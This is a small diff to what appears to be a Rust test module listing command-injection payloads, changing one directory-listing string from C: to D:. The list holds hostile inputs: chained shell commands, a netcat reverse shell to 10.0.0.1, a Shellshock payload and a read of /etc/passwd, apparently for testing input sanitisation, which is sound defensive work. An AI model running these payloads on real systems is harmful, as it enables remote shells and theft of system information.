@@ -461,7 +461,7 @@ mod tests {
             "| ping -n 3 127.0.0.1",
             "& ipconfig /all",
             "& net user",
-            "| dir C:\\",
+            "| dir D:\\",
             "&& nc -e /bin/sh 10.0.0.1 4444",
             "() { :;}; /bin/bash -c id",
             "cat /etc/passwd",
